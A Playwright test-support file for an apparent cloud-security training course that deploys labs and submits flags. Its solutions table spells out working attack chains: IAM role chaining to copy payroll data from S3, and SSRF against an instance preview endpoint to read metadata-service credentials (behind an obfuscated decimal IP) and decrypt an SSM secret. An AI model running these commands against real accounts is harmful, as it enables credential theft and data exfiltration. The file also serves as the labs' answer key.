import type { Page } from '@playwright/test'
import { type CheckAccessibility, expect } from '../support/fixtures.ts'

interface LabSolution {
  staticFlag: string
  /** Lines of the lesson that end with the one that prints the dynamic flag. */
  commands: string[]
}

const keysOfTheBox = ['access_key_id AccessKeyId', 'secret_access_key SecretAccessKey', 'session_token Token']

const solutions: { title: RegExp; solution: LabSolution }[] = [
  {
    title: /cross-account trust/i,
    solution: {
      staticFlag: 'audit-reader',
      commands: [
        'account=$(aws sts get-caller-identity --query Account --output text)',
        'aws configure set role_arn "arn:aws:iam::$account:role/audit-reader" --profile hop1',
        'aws configure set source_profile default --profile hop1',
        'aws configure set role_arn "arn:aws:iam::$account:role/payroll-export" --profile hop2',
        'aws configure set source_profile hop1 --profile hop2',
        "bucket=$(aws s3 ls --profile hop1 | grep -o 'payroll-archive.*')",
        'aws s3 cp "s3://$bucket/payroll-2026-10" - --profile hop2',
      ],
    },
  },
  {
    title: /./,
    solution: {
      staticFlag: 'report-box',
      commands: [
        'address=$(aws ec2 describe-instances --query "Reservations[0].Instances[0].PublicIpAddress" --output text)',
        'curl -s "http://$address/preview?url=http://2852039166/latest/meta-data/iam/security-credentials/report-box" | jq -r .preview > keys.json',
        ...keysOfTheBox.map((pair) => {
          const [setting, field] = pair.split(' ')
          return `aws configure set aws_${setting} "$(jq -r .${field} keys.json)" --profile box`
        }),
        'aws configure set region "$(aws configure get region)" --profile box',
        'aws ssm get-parameter --name preview-signing-key --with-decryption --query Parameter.Value --output text --profile box',
      ],
    },
  },
]

/** A lab of the course that the journeys take. */
export const LAB = { slug: 'cross-account-trust', title: 'Cross-account trust' }

export function solutionOf(title: string): LabSolution {
  const solution = solutions.find((lab) => lab.title.test(title))?.solution
  if (!solution) throw new Error(`No solution for ${title}`)
  return solution
}

/** Deploys the lab of the page. An account accepts the lab rules before its first one. */
export async function deployLab(page: Page) {
  const deploy = page.getByRole('button', { name: /^Deploy/ })
  const accept = page.getByRole('button', { name: 'Accept and start the lab' })
  await deploy.click()
  await expect.poll(async () => (await accept.isVisible()) || !(await deploy.isVisible())).toBe(true)
  if (await accept.isVisible()) await accept.click()
}

/** Deploys a lab, sees its stages and credentials, submits a wrong flag and then each right one, and ends the lab. */
export async function solveLab(page: Page, title: string, checkAccessibility: CheckAccessibility) {
  const solution = solutionOf(title)
  await deployLab(page)
  await expect(page.getByText('Handing you the keys')).toBeVisible()
  await checkAccessibility(page, `${title}, building`)
  await expect(page.getByRole('link', { name: /^Open console/ })).toBeVisible({ timeout: 90_000 })
  await expect(page.getByRole('timer')).toBeVisible()
  await page
    .getByRole('button', { name: /^Show / })
    .first()
    .click()
  await checkAccessibility(page, `${title}, running`)

  await handInFlag(page, 'not this one')
  await expect(
    page
      .getByRole('alert')
      .filter({ hasText: /That is not the (flag|answer)/ })
      .first(),
  ).toBeVisible()
  await handInFlag(page, solution.staticFlag)
  await expect(page.getByText('Solved', { exact: true })).toHaveCount(1)
  await seeConsole(page, checkAccessibility)
  await handInFlag(page, await findFlagInShell(page, solution.commands))
  await expect(page.getByText('Solved', { exact: true })).toHaveCount(2)
  for (const step of await page.getByRole('button', { name: 'I did this' }).all()) await step.click()

  await page.getByRole('button', { name: 'End', exact: true }).click()
  await page.getByRole('button', { name: 'End the lab' }).click()
  await expect(page.getByRole('button', { name: 'Deploy again' })).toBeVisible({ timeout: 60_000 })
}

/** Hands a flag in by the one box of a lab. */
export async function handInFlag(page: Page, flag: string) {
  await page.keyboard.press('Control+k')
  const box = page.getByLabel(/^Found one\? Enter any flag of this lab/)
  await expect(box).toBeFocused()
  await box.fill(flag)
  await box.press('Enter')
}

export async function submitFlag(page: Page, question: RegExp, flag: string) {
  await page.getByLabel(question).fill(flag)
  await page.getByLabel(question).press('Enter')
}

/** Signs in to the simulated console of an environment with the credentials on its page. It shows what its identity may see, and no flag. */
async function seeConsole(page: Page, checkAccessibility: CheckAccessibility) {
  const [user, password] = [await readCredential(page, 'User name'), await readCredential(page, 'Password')]
  const href = await page.getByRole('link', { name: /^Open console/ }).getAttribute('href')
  const cloud = await page.context().newPage()
  await cloud.goto(href ?? '')
  const heading = cloud.getByRole('heading', { level: 1 })
  await expect(heading).toHaveText(/^Sign in to AWS account/)
  await checkAccessibility(cloud, 'simulated cloud, sign-in')
  await cloud.getByLabel('User name').fill(user)
  await cloud.getByLabel('Password').fill(password)
  await cloud.getByRole('button', { name: 'Sign in' }).click()
  await expect(heading).toHaveText(/^AWS account/)
  await checkAccessibility(cloud, 'simulated cloud, account')
  await expect(cloud.getByText(/FLAG\{[0-9a-f]{32}\}/)).toHaveCount(0)
  await cloud.close()
}

/** Types lines into the shell of the environment on this page, in its screen-reader mode, and reads the flag that the last one prints. */
export async function findFlagInShell(page: Page, lines: string[]): Promise<string> {
  const command = page.getByRole('textbox', { name: /^Command/ })
  if (!(await command.isVisible())) await page.getByRole('switch', { name: 'Screen-reader mode' }).click()
  const log = page.getByRole('log', { name: 'Shell output' })
  for (const line of lines) {
    await command.fill(line)
    // A busy server rejects a line, which then stays in the field to be sent again.
    await expect(async () => {
      await command.press('Enter')
      await expect(command).toHaveValue('', { timeout: 15_000 })
    }).toPass({ timeout: 60_000 })
    await expect(log).toContainText(line)
  }
  const flag = /FLAG\{[0-9a-f]{32}\}/
  await expect(log).toContainText(flag)
  return flag.exec((await log.textContent()) ?? '')?.[0] ?? ''
}

async function readCredential(page: Page, label: string): Promise<string> {
  const show = page.getByRole('button', { name: `Show ${label}`, exact: true })
  if (await show.isVisible()) await show.click()
  const term = page.getByRole('term').filter({ hasText: new RegExp(`^${label}$`) })
  return (await term.locator('xpath=following-sibling::dd[1]').textContent()) ?? ''
}
